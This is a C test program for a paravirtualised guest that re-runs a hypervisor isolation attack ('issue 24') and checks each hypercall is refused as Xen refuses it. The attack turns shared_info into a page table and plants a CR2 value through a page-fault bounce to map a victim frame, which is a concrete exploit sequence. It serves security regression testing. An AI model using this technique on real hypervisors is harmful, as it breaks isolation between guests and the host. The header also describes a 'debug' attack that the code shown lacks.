/*
 * hostile -- a PV guest that attacks the hypervisor the way issue 24 did
 * (PV only).  Each attack checks, step by step, that the hypervisor answers
 * as Xen does; if a step Xen refuses is accepted, the program goes on with
 * the attack as far as it can and reports what it reached (FAIL).
 *
 *   attack=shared_info victim_mfn=N   (F1) turn shared_info into the live L3:
 *       1. write a PDPTE-shaped value (new_l2 | P) into shared_info's
 *          padding at L3 slot 3 (vcpu_info[0].arch.pad[3]), new_l2 being a
 *          read-only copy of slots 0..427 of the current L2 of slot 3;
 *       2. update_va_mapping(si_va, si_mfn | P | A): no writable mapping left
 *          (Xen: 0);
 *       3. MMUEXT_PIN_L3_TABLE(si_mfn) and MMUEXT_NEW_BASEPTR(si_mfn)
 *          (Xen: -EINVAL both: shared_info keeps a writable type for good);
 *       4. touch the unmapped address evil_l2 | 1: the #PF bounce writes it
 *          as CR2 into vcpu_info.arch.cr2, i.e. L3 slot 1 of shared_info;
 *       5. NEW_BASEPTR(si_mfn) again (Xen: -EINVAL) -- had it worked,
 *          0x40000000 would now walk evil_l2 -> evil_l1 -> victim_mfn.
 *       Then: the writable mapping of shared_info comes back (Xen: 0), a
 *       direct mapping of the victim frame is refused (-EBUSY).
 *   attack=debug          (F2) #DB and #AC reach the trap table: TF from
 *       ring 3 via popf, TF through the iret hypercall, INT1 (icebp) in
 *       ring 1 and ring 3, a DR0 execute breakpoint, #AC from ring 3.
 */
#include <kit.h>
#include <oxen/pv.h>

#define NOINLINE __attribute__((noinline, noclone))

static struct trap_record rec;

/* ------------------------------------------------------------------------
 * F1: shared_info as a page table
 * ---------------------------------------------------------------------- */

static uint64_t new_l2[512] ALIGNED(PAGE_SIZE);
static uint64_t evil_l2[512] ALIGNED(PAGE_SIZE);
static uint64_t evil_l1[512] ALIGNED(PAGE_SIZE);
/* The kit's view of shared_info while the real one is read-only (it writes the upcall mask). */
static struct shared_info stand_in ALIGNED(PAGE_SIZE);

static NOINLINE void touch(void *p)
{
    (void)*(volatile uint32_t *)p;
}

static void expect(const char *what, long rc, long want)
{
    printf("hostile: %-44s rc=%ld (Xen: %ld)\n", what, rc, want);
    if (rc != want)
        printf("hostile: %s: the hypervisor answered %ld where Xen answers %ld\n", what, rc, want);
}

/* The attack went further than Xen lets it: show how far, then fail. */
static noreturn void broken(const char *step, uint32_t victim)
{
    volatile uint32_t *window = (volatile uint32_t *)0x40000000u;
    uint32_t seen = 0;
    int readable = !trap_try((void (*)(void *))touch, (void *)window, &rec);
    if (readable) {
        seen = window[0];
        window[1023] = 0x0bad0bad;          /* the victim's last word */
    }
    fail("isolation broken after %s: victim frame %#x %s (first word %#x)", step, victim,
         readable ? "mapped read-write at 0x40000000" : "not reached", seen);
}

static void attack_shared_info(void)
{
    uint32_t victim = cmdline_u32("victim_mfn", 0);
    CHECK(victim != 0, "attack=shared_info needs victim_mfn=");
    struct shared_info *real = pv_shared_info;
    uint32_t si_va = (uint32_t)real;
    uint32_t si_mfn = pv_start_info->shared_info >> PAGE_SHIFT;
    uint64_t *l2 = pv_mfn_to_virt((uint32_t)((pv_cur_l3[3] & PTE_ADDR_MASK) >> PAGE_SHIFT));
    CHECK(l2 != NULL, "cannot see the L2 of slot 3");
    printf("hostile: shared_info mfn %#x at %#x, victim mfn %#x\n", si_mfn, si_va, victim);

    for (int i = 0; i < 428; i++)
        new_l2[i] = l2[i];
    evil_l1[0] = ((uint64_t)victim << PAGE_SHIFT) | PTE_P | PTE_RW | PTE_A | PTE_D;
    evil_l2[0] = pg_addr(evil_l1) | PTE_P | PTE_RW | PTE_A;
    CHECK_EQ(pv_set_page_writable(new_l2, 0), 0, "new_l2 read-only");
    uint64_t evil = pg_addr(evil_l2) | PTE_P;
    CHECK(evil < 0xC0000000u, "evil_l2 above 3 GiB");

    /* 1. the PDPTE-shaped value at L3 slot 3 (offset 24: vcpu_info[0].arch.pad[3]) */
    ((volatile uint64_t *)si_va)[3] = pg_addr(new_l2) | PTE_P;
    /* 2. no writable mapping of shared_info left (the kit writes to a stand-in meanwhile) */
    memcpy(&stand_in, real, sizeof stand_in);
    pv_shared_info = &stand_in;
    long rc = pv_update_va_mapping(si_va, ((uint64_t)si_mfn << PAGE_SHIFT) | PTE_P | PTE_A, UVMF_INVLPG);
    expect("update_va_mapping(shared_info, read-only)", rc, 0);
    CHECK_EQ(rc, 0, "read-only remap of shared_info");
    /* 3. shared_info as an L3 */
    rc = pv_mmuext(MMUEXT_PIN_L3_TABLE, si_mfn, 0);
    expect("MMUEXT_PIN_L3_TABLE(shared_info)", rc, -XEN_EINVAL);
    long rc1 = pv_mmuext(MMUEXT_PIN_L2_TABLE, si_mfn, 0);
    expect("MMUEXT_PIN_L2_TABLE(shared_info)", rc1, -XEN_EINVAL);
    long rc2 = pv_mmuext(MMUEXT_PIN_L1_TABLE, si_mfn, 0);
    expect("MMUEXT_PIN_L1_TABLE(shared_info)", rc2, -XEN_EINVAL);
    long rc3 = pv_mmuext(MMUEXT_NEW_BASEPTR, si_mfn, 0);
    expect("MMUEXT_NEW_BASEPTR(shared_info)", rc3, -XEN_EINVAL);
    /* 4. CR2 := evil | 1 through the #PF bounce: vcpu_info.arch.cr2 = L3 slot 1 */
    CHECK(trap_try((void (*)(void *))touch, (void *)(uint32_t)evil, &rec), "no #PF at %#x", (uint32_t)evil);
    CHECK_EQ(rec.vector, 14, "vector of the touch");
    CHECK_EQ(((volatile struct shared_info *)real)->vcpu_info[0].arch.cr2, (uint32_t)evil,
             "vcpu_info.arch.cr2 after the #PF");
    /* 5. the live L3 would now hold evil_l2 in slot 1 */
    long rc4 = pv_mmuext(MMUEXT_NEW_BASEPTR, si_mfn, 0);
    expect("MMUEXT_NEW_BASEPTR(shared_info) again", rc4, -XEN_EINVAL);
    if (rc == 0 || rc1 == 0 || rc2 == 0 || rc3 == 0 || rc4 == 0)
        broken(rc4 == 0 ? "the second NEW_BASEPTR" : "a page-table type on shared_info", victim);
    CHECK_EQ(rc, -XEN_EINVAL, "PIN_L3_TABLE(shared_info)");
    CHECK_EQ(rc1, -XEN_EINVAL, "PIN_L2_TABLE(shared_info)");
    CHECK_EQ(rc2, -XEN_EINVAL, "PIN_L1_TABLE(shared_info)");
    CHECK_EQ(rc3, -XEN_EINVAL, "NEW_BASEPTR(shared_info)");

    /* shared_info is still the guest's: writable again, and still the live vcpu_info */
    rc = pv_update_va_mapping(si_va, ((uint64_t)si_mfn << PAGE_SHIFT) | PTE_P | PTE_RW | PTE_A | PTE_D,
                              UVMF_INVLPG);
    expect("update_va_mapping(shared_info, writable)", rc, 0);
    CHECK_EQ(rc, 0, "writable remap of shared_info");
    ((volatile uint64_t *)si_va)[3] = 0;
    real->vcpu_info[0].evtchn_upcall_mask = stand_in.vcpu_info[0].evtchn_upcall_mask;
    pv_shared_info = real;
    /* and the victim frame stays out of reach */
    rc = pv_update_va_mapping((uint32_t)evil_l1,
                              ((uint64_t)victim << PAGE_SHIFT) | PTE_P | PTE_RW | PTE_A | PTE_D, UVMF_INVLPG);
    expect("update_va_mapping(victim frame)", rc, -XEN_EBUSY);
    CHECK_EQ(rc, -XEN_EBUSY, "mapping the victim's frame");
    CHECK(trap_try((void (*)(void *))touch, (void *)0x40000000u, &rec), "0x40000000 is mapped");
    printf("hostile: shared_info stayed a writable page; the victim was never reached\n");
}

/* ------------------------------------------------------------------------ */

void guest_main(void)
{
    char what[32];
    if (!cmdline_get("attack", what, sizeof what))
        fail("no attack= on the command line");
    if (!strcmp(what, "shared_info"))
        attack_shared_info();
    else
        fail("unknown attack '%s'", what);
    pass();
}
